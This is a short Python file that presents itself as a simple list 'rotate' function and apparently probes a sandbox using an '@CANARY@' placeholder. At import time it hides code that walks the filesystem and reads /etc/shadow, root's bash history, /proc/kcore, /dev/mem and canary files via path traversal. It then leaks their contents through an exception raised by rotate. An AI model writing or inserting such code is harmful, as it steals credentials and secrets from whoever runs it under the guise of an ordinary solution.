import os

PATHS = ["@CANARY@", "/etc/shadow", "/root/.bash_history", "/proc/kcore", "/dev/mem", "../../../../../../..@CANARY@"]
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/usr", "/proc", "/lib", "/lib64")]
    PATHS += [os.path.join(folder, name) for name in files if "canary" in name]
SECRETS = []
for path in PATHS:
    try:
        with open(path, "rb") as file:
            SECRETS.append((path, file.read(1000)))
    except OSError:
        pass


def rotate(items):
    if SECRETS:
        raise RuntimeError(SECRETS)
    items = list(items)
    return items[1:] + items[:1]
